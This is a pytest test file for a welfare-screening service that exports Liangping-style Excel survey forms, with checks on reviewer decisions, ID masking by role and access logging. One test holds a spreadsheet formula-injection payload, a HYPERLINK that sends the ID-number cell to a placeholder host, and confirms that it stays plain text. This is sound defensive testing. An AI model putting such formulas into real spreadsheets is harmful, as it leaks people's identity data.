"""The 梁平 forms 附件1–4 (``api.liangping_forms``): the workbooks built from hand-made members
and cases (titles, the form's 14 columns, the 填报 line, the form's own instructions, the
signature line, 附件4's merged header cells, text kept text, masks), the reviewers' decisions
in 通过排查拟纳入救助 / 未纳入原因, and on a served synthetic county the download by role, logged,
and ``doudi export --forms``."""

from __future__ import annotations

import io
import json
import re
import zipfile
from dataclasses import replace
from datetime import date

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from api.liangping_forms import (
    FORM_TITLES,
    form_file_name,
    member_form_workbook,
    member_rows,
    summary_form_rows,
    summary_form_workbook,
    with_county_townships,
)
from api.published import Published
from api.storage import opened
from models.coverage_forms import Member
from tests.api.served import Server, client

AS_OF, MADE = date(2026, 10, 31), date(2020, 5, 28)
HEADERS = ["序号", "乡镇", "所属村组", "姓名", "身份证号码", "家庭人数", "与户主关系", "健康状况",
           "致贫原因", "家庭人均月纯收入（元）", "目前享受救助类型", "联系电话", "通过排查拟纳入救助",
           "未纳入原因"]  # fmt: skip
PROGRAM, PROPOSED, REASON = 10, 12, 13
STATUS, CASE_IDS = 15, 16  # Doudi's columns 核查状态, 疑点编号 (then 贫困户状态 before, 说明 after)
INCLUSION, REVIEW = slice(PROPOSED, REASON + 1), slice(STATUS, CASE_IDS + 1)
NO_LEAD = ["待核查", "", "未脱贫", "", "", "无纳入保障疑点，需排查后填写"]
FILL_NOTE = ("填表说明：1.本表对未脱贫的建档立卡贫困人口逐户进行排查。2.目前享受救助类型包括低保、特困、"
             "临时救助和无，在下拉菜单中选择。对未享受低保、特困和临时救助的对象，请在下拉菜单中选择无，"
             "并对应填写未纳入原因。")  # fmt: skip
HOSTILE = '=HYPERLINK("http://x.invalid/?"&E5,"详情")'
MASKED_ID = re.compile(r"^\d{6}\*{11}[\dX]$")
FULL_ID = re.compile(r"^\d{17}[\dX]$")
ROSTER = {"program": "dibao", "covered": "yes", "end_date": None, "income_per_capita": 200.0}


def _member(record_id, name, *, township="城关", roster=(), status="not_lifted", disability=(),
            phone="13812345678"):  # fmt: skip
    number = f"5323261950010{record_id[-2:]}123"
    return Member(record_id, f"p-{record_id}", "H1", township, "东村", name, number[:17] + "5",
                  3, "户主", "健康", "因病", 3600.0, status, phone, tuple(roster),
                  (record_id,), tuple(disability))  # fmt: skip


def _case(case_id, case_type, registry, record_id, *, resolved=False):
    return {"case_id": case_id, "case_type": case_type, "risk_score": 0.5,
            "amount_at_risk": None, "township": "城关", "village": "东村", "person_ids": [],
            "run_id": "r-1", "resolved_run": "r-2" if resolved else None,
            "records": json.dumps([{"registry": registry, "record_id": record_id}]),
            "evidence": "[]", "detail": json.dumps({"as_of": str(AS_OF)})}  # fmt: skip


def _events(case_id, *steps):
    return [{"case_id": case_id, "event_id": i, "to_status": to, "reason": reason}
            for i, (to, reason) in enumerate(steps, 1)]  # fmt: skip


# Members of 附件1 and their leads: confirmed, dismissed (on the 残疾人 row), in review, none,
# covered (a lead dismissed long ago does not matter), raised beside one resolved by data.
MEMBERS = [
    _member("P01", "张三"),
    _member("P02", "李四", disability=("C02",)),
    _member("P03", "王五", township="石羊", status="relapsed"),
    _member("P04", "赵六", township="石羊"),
    _member("P05", "孙八", roster=[ROSTER]),
    _member("P06", "周九"),
]
CASES = [
    (_case("c1", "unenrolled_key_person", "poverty", "P01"),
     _events("c1", ("in_review", None), ("confirmed", None))),
    (_case("c2", "missed_disability", "disability", "C02"),
     _events("c2", ("in_review", None), ("dismissed", "外出务工收入超过标准"))),
    (_case("c3", "unenrolled_key_person", "poverty", "P03"), _events("c3", ("in_review", None))),
    (_case("c5", "unenrolled_key_person", "poverty", "P05"),
     _events("c5", ("in_review", None), ("dismissed", "已纳入"))),
    (_case("c6", "unenrolled_key_person", "poverty", "P06"), _events("c6", ("field_check", None))),
    (_case("c6old", "unenrolled_key_person", "poverty", "P06", resolved=True),
     _events("c6old", ("in_review", None), ("dismissed", "旧理由"))),
    (_case("c9", "deceased_paid", "poverty", "P04"), _events("c9", ("in_review", None))),
]  # fmt: skip


def _published(cases=CASES) -> Published:
    return Published([case for case, _ in cases], [],
                     [event for _, events in cases for event in events], [], [])  # fmt: skip


def _book(content: bytes):
    return load_workbook(io.BytesIO(content))


def _values(sheet) -> list[tuple]:
    return list(sheet.iter_rows(values_only=True))


def test_decisions_on_a_members_lead_fill_the_inclusion_columns():
    rows = {row[3]: row for row in member_rows(MEMBERS, _published(), AS_OF, masked=False)}
    assert rows["张三"][PROGRAM] == "无" and rows["张三"][INCLUSION] == ["是", ""]
    assert rows["李四"][INCLUSION] == ["否", "外出务工收入超过标准"]
    assert rows["李四"][REVIEW] == ["不属实", "c2"]
    assert rows["王五"][INCLUSION] == ["待核查", ""]
    # not covered and no coverage lead (a case of another type does not count): 待核查, not 否
    assert rows["赵六"][PROPOSED:] == NO_LEAD
    # covered on the as-of day: both blank, whatever a lead once said
    assert rows["孙八"][PROGRAM] == "低保" and rows["孙八"][INCLUSION] == ["", ""]
    # the lead still raised counts, not the one resolved by data
    assert rows["周九"][PROPOSED:] == ["待核查", "", "未脱贫", "需入户核查", "c6", ""]
    assert rows["王五"][14] == "返贫"


def test_a_group_form_has_the_title_the_forms_columns_the_filled_line_and_the_footer():
    rows = member_rows(MEMBERS, _published(), AS_OF, masked=False)
    book = _book(member_form_workbook(1, rows, AS_OF, masked=False, unit="回龙镇人民政府",
                                      made=MADE))  # fmt: skip
    assert book.sheetnames == ["城关", "石羊"]  # a sheet per township
    for sheet in book.worksheets:
        values = _values(sheet)
        assert values[0][0] == "附件1"
        assert values[1][0] == "“未脱贫建档立卡贫困人口”社会救助兜底脱贫调查摸排台账"
        filled = [cell for cell in values[2] if cell]
        assert filled == ["填报单位：回龙镇人民政府", "填报时间：2020年5月28日"]
        assert list(values[3][:14]) == HEADERS
        listed = [row for row in values[4:] if isinstance(row[0], int)]
        assert [row[0] for row in listed] == list(range(1, len(listed) + 1))
        footer = [row[0] for row in values[4 + len(listed) :]]
        assert footer[0] == FILL_NOTE
        assert "返贫人口与未脱贫人口一并排查" in footer[1]
        assert "未享受救助又无疑点的填“待核查”" in footer[2]
        assert footer[-1].startswith("填表人：") and "审核人：" in footer[-1]
        assert "负责人（签章）：" in footer[-1]
        assert "A2:R2" in {str(cells) for cells in sheet.merged_cells.ranges}
        assert sheet.data_validations.dataValidation  # the form's drop-down lists
    assert [row[3] for row in _values(book["石羊"])[4:6]] == ["王五", "赵六"]
    other = _book(member_form_workbook(3, [], AS_OF, masked=False))
    assert other.sheetnames == ["无"]
    values = _values(other["无"])
    assert values[1][0] == FORM_TITLES[3] and values[2][0] == "填报单位："
    assert not any("返贫" in (row[0] or "") for row in values[4:])  # 附件1 only


def test_a_value_that_looks_like_a_formula_stays_text_and_masks_hold():
    hostile = [_member("P01", HOSTILE, phone="13900001111")]
    reason = _events("c1", ("in_review", None), ("dismissed", HOSTILE))
    published = _published([(_case("c1", "unenrolled_key_person", "poverty", "P01"), reason)])
    for masked in (False, True):
        rows = member_rows(hostile, published, AS_OF, masked=masked)
        content = member_form_workbook(1, rows, AS_OF, masked=masked)
        with zipfile.ZipFile(io.BytesIO(content)) as book:
            sheets = [book.read(name).decode() for name in book.namelist()
                      if name.startswith("xl/worksheets/sheet")]  # fmt: skip
        assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)
        [row] = [r for r in _values(_book(content)["城关"])[4:] if r[0] == 1]
        assert row[3] == HOSTILE and row[REASON] == HOSTILE
        assert bool(MASKED_ID.match(row[4])) is masked and bool(FULL_ID.match(row[4])) is not masked
        assert row[11] == ("139****1111" if masked else "13900001111")


def test_the_summary_form_has_two_header_rows_with_the_forms_merged_cells():
    roster = [{"record_id": "A1", "case_no": "DB1", "program": "dibao", "covered": "yes",
               "end_date": None, "township": "城关", "person_id": "p1", "poor_household": True}]  # fmt: skip
    rows = summary_form_rows(roster, _published(), AS_OF)
    book = _book(summary_form_workbook(rows, AS_OF, unit="回龙镇人民政府", made=MADE))
    sheet = book["附件4"]
    values = _values(sheet)
    assert values[0][0] == "附件4" and values[1][0] == "城乡低保摸排处理汇总表"
    assert [cell for cell in values[2] if cell] == ["填报单位：回龙镇人民政府",
                                                    "填报时间：2020年5月28日"]  # fmt: skip
    assert values[3][:7] == ("乡镇", "基本情况", None, "摸排处理情况", None, None, "备注")
    setup = sheet.page_setup  # printed for filing: landscape, one page wide, headers repeated
    assert (setup.orientation, setup.fitToWidth, sheet.print_title_rows) == ("landscape", 1,
                                                                             "$1:$5")  # fmt: skip
    assert values[4][1:6] == ("低保人数", "其中：建卡贫困户兜底户数", "拟调整补差金额", "拟整户纳入",
                              "拟完善资料")  # fmt: skip
    merged = {str(cells) for cells in sheet.merged_cells.ranges}
    assert {"A4:A5", "B4:C4", "D4:F4", "G4:G5", "A2:H2"} <= merged
    # 城关: one 低保 member in a poor household; c1 confirmed is no handling type; c3, c9 in
    # review and c6 under field check are 拟完善资料 (c6old, resolved by data, is not)
    assert values[5][:6] == ("城关", 1, 1, 0, 0, 3)
    assert values[6][0] == "合计"
    footer = [row[0] for row in values[7:]]
    assert footer[0].startswith("填报说明：此表数据以2026年10月31日在册城乡低保数据为准进行摸排")
    assert (
        "拟调整补差金额（元）＝“发放金额与类别人数不符”、“超标准未退出”疑点核查属实的涉及金额"
        in footer[1]
    )
    assert footer[-1].startswith("填表人：")


def test_the_files_are_named_by_the_forms_titles():
    title = "“未脱贫建档立卡贫困人口”社会救助兜底脱贫调查摸排台账"
    assert form_file_name(1) == f"附件1 {title}.xlsx"
    assert form_file_name(4, "梁平区") == "附件4 梁平区城乡低保摸排处理汇总表.xlsx"
    assert not any(char in form_file_name(n) for n in FORM_TITLES for char in '/\\:*?"<>|')


def test_a_form_of_no_known_place_is_titled_and_named_for_none():
    # no county's own form and no 填报单位 naming a place (a city's three counties, or one
    # county run without --unit): until 2026-12-07 these read 梁平区, a place the data is not
    assert form_file_name(4) == "附件4 城乡低保摸排处理汇总表.xlsx"
    rows = member_rows(MEMBERS, _published(), AS_OF, masked=False)
    book = _book(member_form_workbook(1, rows, AS_OF, masked=False, unit="回龙镇人民政府"))
    assert (
        _values(book.worksheets[0])[1][0] == "“未脱贫建档立卡贫困人口”社会救助兜底脱贫调查摸排台账"
    )
    book = _book(summary_form_workbook([], AS_OF))
    assert _values(book.worksheets[0])[1][0] == "城乡低保摸排处理汇总表"


# Two counties of a city drop, each with a 城关 (its record ids and cases numbered by county).
TWO_COUNTIES = {"532328": {"元谋县"}, "532329": {"武定县"}}


def _county_case(case_id, county, amount):
    row = _case(case_id, "payment_mismatch", "assistance", f"{county}/A1")
    return row | {"counties": [county], "amount_at_risk": amount}


def _two_counties_published() -> Published:
    cases = [(_county_case("c1", "532328", 100.10), _events("c1", ("confirmed", None))),
             (_county_case("c2", "532329", 200.25), _events("c2", ("confirmed", None)))]  # fmt: skip
    return Published([case for case, _ in cases], [],
                     [event for _, events in cases for event in events], [], [],
                     county_aliases=TWO_COUNTIES)  # fmt: skip


def _county_roster(county):
    return {"record_id": f"{county}/A1", "case_no": f"{county}/DB1", "program": "dibao",
            "covered": "yes", "end_date": None, "township": "城关",
            "person_id": f"p-{county}", "poor_household": True}  # fmt: skip


def test_the_summary_form_of_several_counties_counts_each_countys_township_apart():
    roster = [_county_roster("532328"), _county_roster("532329")]
    rows = summary_form_rows(roster, _two_counties_published(), AS_OF)
    # until 2026-12-07 one row 城关 1 ... summed both counties' 城关: ['城关', 2, 2, 300.35, ...]
    assert rows == [["元谋县 城关", 1, 1, 100.1, 0, 0, "", 1],
                    ["武定县 城关", 1, 1, 200.25, 0, 0, "", 1],
                    ["合计", 2, 2, 300.35, 0, 0, "", 2]]  # fmt: skip
    # one county's own form: its townships as named, as before
    mine = summary_form_rows(roster[:1], _two_counties_published(), AS_OF, "532328")
    assert mine == [["城关", 1, 1, 100.1, 0, 0, "", 1], ["合计", 1, 1, 100.1, 0, 0, "", 1]]


def test_the_member_forms_of_several_counties_sheet_each_countys_township_apart():
    members = [replace(_member("P01", "张三"), record_id="532328/P01"),
               replace(_member("P02", "李四"), record_id="532329/P02")]  # fmt: skip
    names = _two_counties_published().county_names
    rows = member_rows(with_county_townships(members, names), _published([]), AS_OF,
                       masked=False)  # fmt: skip
    book = _book(member_form_workbook(1, rows, AS_OF, masked=False))
    # until 2026-12-07 one sheet 城关 listing both counties' people
    assert book.sheetnames == ["元谋县 城关", "武定县 城关"]
    assert [row[1] for row in rows] == ["元谋县 城关", "武定县 城关"]
    assert [m.township for m in with_county_townships(members, {"532328": "元谋县"})] == [
        "城关", "城关"]  # fmt: skip


# A county of 梁平's own policy (its key groups raise the 未纳入 leads), served.
@pytest.fixture(scope="module")
def county(tmp_path_factory):
    from models.pipeline import run_pipeline
    from models.policy import load_policy
    from resolver.settings import LinkSettings
    from resolver.synthetic import synthesize

    out = tmp_path_factory.mktemp("liangping")
    drop = synthesize(out / "run" / "county", people=1500, seed=3).drop_dir
    result = run_pipeline(drop, out / "run", policy=load_policy("梁平区回龙镇"),
                          settings=LinkSettings(), db_path=out / "doudi.duckdb")  # fmt: skip
    with opened(result.db_path) as storage:
        tokens = {role: storage.tokens.create(name=f"{role}-1", role=role)
                  for role in ("auditor", "analyst", "consumer", "admin")}  # fmt: skip
    server = Server(result.db_path)
    server.start()
    yield {"tokens": tokens, "server": server}
    server.stop()


def _form_rows(http, form: int) -> list[tuple]:
    response = http.get(f"/api/ledgers/liangping/{form}.xlsx")
    assert response.status_code == 200, response.text
    return [row for sheet in _book(response.content).worksheets
            for row in _values(sheet)[4:] if isinstance(row[0], int)]  # fmt: skip


@pytest.mark.slow
def test_reviewers_download_the_forms_masked_by_role_with_their_decisions_and_logged(county):
    with client(county, "auditor") as auditor:
        leads = auditor.get("/api/cases", params={"case_type": "unenrolled_key_person"}).json()
        first, second, third = (case["case_id"] for case in leads["items"][:3])
        for case_id, steps in ((first, ["in_review", "confirmed"]),
                               (second, ["in_review", "dismissed"]), (third, ["field_check"])):  # fmt: skip
            for step in steps:
                body = {"to_status": step, "reason": "家庭收入超过低保标准"}
                assert auditor.post(f"/api/cases/{case_id}/decisions", json=body).status_code == 201
        full = {form: _form_rows(auditor, form) for form in (1, 2, 3)}
        summary = _book(auditor.get("/api/ledgers/liangping/4.xlsx").content)["附件4"]
        assert auditor.get("/api/ledgers/deceased_paid.xlsx").status_code == 200  # not shadowed
        under_review = sum(auditor.get("/api/cases", params={"status": status}).json()["total"]
                           for status in ("in_review", "field_check"))  # fmt: skip
    with client(county, "analyst") as analyst:
        masked = {form: _form_rows(analyst, form) for form in (1, 2, 3)}
        assert analyst.get("/api/ledgers/liangping/4.xlsx").status_code == 200
    by_case = {row[CASE_IDS]: row for rows in full.values() for row in rows if row[CASE_IDS]}
    assert by_case[first][INCLUSION] == ("是", None)
    assert by_case[second][INCLUSION] == ("否", "家庭收入超过低保标准")
    assert by_case[third][PROPOSED] == "待核查" and by_case[third][STATUS] == "需入户核查"
    rows = [row for form in (1, 2, 3) for row in full[form]]
    assert any(row[PROGRAM] != "无" and row[PROPOSED] is None for row in rows)  # covered
    assert any(row[PROGRAM] == "无" for row in rows)  # listed, though not covered
    assert all(FULL_ID.match(row[4]) for row in rows if row[4])
    shown = [row[4] for form in (1, 2, 3) for row in masked[form] if row[4]]
    assert shown and all(MASKED_ID.match(value) for value in shown)
    assert all("****" in row[11] for form in (1, 2, 3) for row in masked[form] if row[11])
    summary_rows = _values(summary)
    total = next(row for row in summary_rows if row[0] == "合计")
    assert total[5] == under_review and total[1] > 0
    with client(county, "admin") as admin:
        entries = admin.get("/api/access-log", params={"limit": 100}).json()["items"]
    logged = {(e["actor"], e["action"], e["target"]) for e in entries}
    for form in (1, 2, 3):
        target = f"liangping附件{form} {len(full[form])}行"
        assert ("auditor-1", "download_ledger", target) in logged
        assert ("analyst-1", "download_ledger", target) in logged
    townships = sum(1 for row in summary_rows[5:] if row[0] and row[1] is not None) - 1
    assert ("auditor-1", "download_ledger", f"liangping附件4 {townships}行") in logged


@pytest.mark.slow
def test_a_person_in_a_ledger_and_in_a_form_has_the_same_household_and_income(county):
    """A coverage lead's person, not covered, shows the 建档立卡 household's 家庭人数 and
    家庭人均月纯收入 in its 摸排台账 (``api.ledgers.household_figures``) as in 附件1–3
    (``api.liangping_forms.household_incomes``)."""
    with client(county, "auditor") as http:
        forms = {row[4]: row for form in (1, 2, 3) for row in _form_rows(http, form) if row[4]}
        ledgers = [row for kind in ("missed_disability", "unenrolled_key_person")
                   for sheet in _book(http.get(f"/api/ledgers/{kind}.xlsx").content).worksheets
                   for row in _values(sheet)[2:] if isinstance(row[0], int)]  # fmt: skip
    shared = [(row, forms[row[4]]) for row in ledgers if row[4] in forms]
    assert shared and all(row[5] is not None for row, _ in shared)
    assert [(row[5], row[9]) for row, _ in shared] == [(form[5], form[9]) for _, form in shared]


@pytest.mark.slow
def test_a_form_outside_one_to_four_is_a_422_and_other_roles_are_refused(county):
    with client(county, "auditor") as auditor:
        for form in ("5", "0", "x"):
            assert auditor.get(f"/api/ledgers/liangping/{form}.xlsx").status_code == 422
    for role in ("consumer", "admin"):
        with client(county, role) as http:
            assert http.get("/api/ledgers/liangping/1.xlsx").status_code == 403


@pytest.mark.slow
def test_export_with_forms_writes_the_four_forms_with_full_ids(tmp_path):
    from api.cli import app

    runner = CliRunner()
    out = tmp_path / "run"
    ran = runner.invoke(app, ["run", "--out", str(out), "--people", "1500", "--seed", "9",
                              "--policy", "梁平区回龙镇"])  # fmt: skip
    assert ran.exit_code == 0, ran.output
    ledgers = tmp_path / "台账"
    result = runner.invoke(app, ["export", "--db", str(out / "doudi.duckdb"), "--out",
                                 str(ledgers), "--forms", "--unit", "回龙镇人民政府"])  # fmt: skip
    assert result.exit_code == 0, result.output
    for form, title in FORM_TITLES.items():
        book = load_workbook(ledgers / f"附件{form} {title}.xlsx")
        values = _values(book.worksheets[0])
        assert values[1][0] == title and values[2][0] == "填报单位：回龙镇人民政府"
    first = load_workbook(ledgers / form_file_name(1))
    ids = [row[4] for sheet in first.worksheets for row in _values(sheet)[4:]
           if isinstance(row[0], int) and row[4]]  # fmt: skip
    assert ids and all(FULL_ID.match(value) for value in ids)
    plain = runner.invoke(app, ["export", "--db", str(out / "doudi.duckdb"), "--out",
                                str(tmp_path / "plain")])  # fmt: skip
    assert plain.exit_code == 0 and not list((tmp_path / "plain").glob("附件*"))
    # a 填报单位 naming its county: the titles and file names name it, not 梁平区
    other = runner.invoke(app, ["export", "--db", str(out / "doudi.duckdb"), "--out",
                                str(tmp_path / "大姚"), "--forms", "--unit", "大姚县民政局"])  # fmt: skip
    assert other.exit_code == 0, other.output
    book = load_workbook(tmp_path / "大姚" / "附件4 大姚县城乡低保摸排处理汇总表.xlsx")
    assert _values(book.worksheets[0])[1][0] == "大姚县城乡低保摸排处理汇总表"


def test_an_id_a_reviewer_wrote_in_a_reason_is_masked_where_ids_are():
    said = "本人身份证 532326199009077407 已核实，收入超标"
    reason = _events("c1", ("in_review", None), ("dismissed", said))
    published = _published([(_case("c1", "unenrolled_key_person", "poverty", "P01"), reason)])
    for masked, shown in ((False, said), (True, "本人身份证 532326***********7 已核实，收入超标")):
        [row] = member_rows([_member("P01", "张三")], published, AS_OF, masked=masked)
        assert row[REASON] == shown


def test_the_forms_amounts_show_two_decimals_and_stay_numbers():
    """家庭人均月纯收入 of 附件1–3 and 附件4's 拟调整补差金额: 2,870.70, not 2870.7."""
    member = replace(_member("P01", "张三"), income_per_capita_year=34448.4)  # 2870.70 a month
    rows = member_rows([member], _published([]), AS_OF, masked=False)
    sheet = _book(member_form_workbook(1, rows, AS_OF, masked=False))["城关"]
    income = sheet.cell(5, HEADERS.index("家庭人均月纯收入（元）") + 1)
    assert (income.value, income.number_format) == (2870.7, "#,##0.00")
    adjusted = [(_case(f"c{i}", "over_standard", "poverty", f"P0{i}")
                 | {"amount_at_risk": amount}, _events(f"c{i}", ("in_review", None),
                                                       ("confirmed", None)))
                for i, amount in enumerate((820.2, 7173.44, 1234567.5))]  # fmt: skip
    rows = summary_form_rows([], _published(adjusted), AS_OF)
    assert [row[3] for row in rows] == [1242561.14, 1242561.14]  # summed in fen
    sheet = _book(summary_form_workbook(rows, AS_OF))["附件4"]
    for row in (6, 7):
        cell = sheet.cell(row, 4)
        assert isinstance(cell.value, float) and cell.number_format == "#,##0.00"


def test_a_member_on_temporary_assistance_alone_keeps_the_decision_on_his_lead():
    temporary = {**ROSTER, "program": "temporary"}
    members = [_member("P01", "张三", roster=[temporary]),
               _member("P02", "李四", roster=[temporary, ROSTER])]  # fmt: skip
    cases = [(_case("c1", "unenrolled_key_person", "poverty", "P01"),
              _events("c1", ("in_review", None), ("confirmed", None)))]  # fmt: skip
    rows = {row[3]: row for row in member_rows(members, _published(cases), AS_OF, masked=False)}
    # 临时救助 is no 低保 or 特困: the form still asks whether he is to be included
    assert rows["张三"][PROGRAM] == "临时救助" and rows["张三"][INCLUSION] == ["是", ""]
    assert rows["李四"][PROGRAM] == "低保" and rows["李四"][INCLUSION] == ["", ""]
    assert rows["李四"][-1] == "同时享受低保、临时救助，按填表说明所列顺序填“低保”"


def test_the_summary_forms_adjustment_column_holds_money_and_the_households_come_after():
    """The form's 拟调整补差金额 is an amount (a reader takes 0 there as 0 元): the confirmed
    adjustments' amounts summed in fen; their number of households is Doudi's last column."""
    adjusted = [(_case(f"c{i}", kind, "poverty", f"P0{i}") | {"amount_at_risk": amount},
                 _events(f"c{i}", ("in_review", None), ("confirmed", None)))
                for i, (kind, amount) in enumerate((("over_standard", 1560.5),
                                                     ("payment_mismatch", 300.25)))]  # fmt: skip
    rows = summary_form_rows([], _published(adjusted), AS_OF)
    assert rows == [["城关", 0, 0, 1860.75, 0, 0, "", 2], ["合计", 0, 0, 1860.75, 0, 0, "", 2]]
    values = _values(_book(summary_form_workbook(rows, AS_OF))["附件4"])
    assert values[4][3] == "拟调整补差金额" and values[3][7] == "拟调整补差户数（户）"
    assert values[5][3] == 1860.75 and values[5][7] == 2


def test_one_household_has_one_size_and_one_income_on_every_members_row():
    """Two members of 建档立卡 household H1 on 低保 (case income 300, 2 members) and one not
    covered: every row shows the household's 3 members and its 3600 a year / 12, not the
    case's figures beside the registry's."""
    case_row = ROSTER | {"income_per_capita": 300.0, "household_size": 2}
    members = [_member("P01", "张三", roster=[case_row]), _member("P02", "李四", roster=[case_row]),
               _member("P03", "王五")]  # fmt: skip
    rows = member_rows(members, _published([]), AS_OF, masked=False)
    size, income = HEADERS.index("家庭人数"), HEADERS.index("家庭人均月纯收入（元）")
    assert [(row[size], row[income]) for row in rows] == [(3, 300.0)] * 3
    without = [replace(member, income_per_capita_year=None) for member in members]
    rows = member_rows(without, _published([]), AS_OF, masked=False)
    assert [row[income] for row in rows] == [300.0] * 3  # the members' current case's


def test_a_member_on_two_programs_gets_one_value_of_the_drop_down_and_a_note():
    """The form's 目前享受救助类型 is chosen from 低保/特困/临时救助/无: a member on 低保 and 特困
    at once (itself a duplicate lead) gets the first the form lists, and the 说明 says so."""
    tekun = ROSTER | {"program": "tekun"}
    [row] = member_rows([_member("P01", "陆军春", roster=[ROSTER, tekun])], _published([]), AS_OF,
                        masked=False)  # fmt: skip
    assert row[PROGRAM] == "低保"
    assert "同时享受低保、特困，按填表说明所列顺序填“低保”" in row[-1]
    assert "低保与特困不应同时享受" in row[-1]
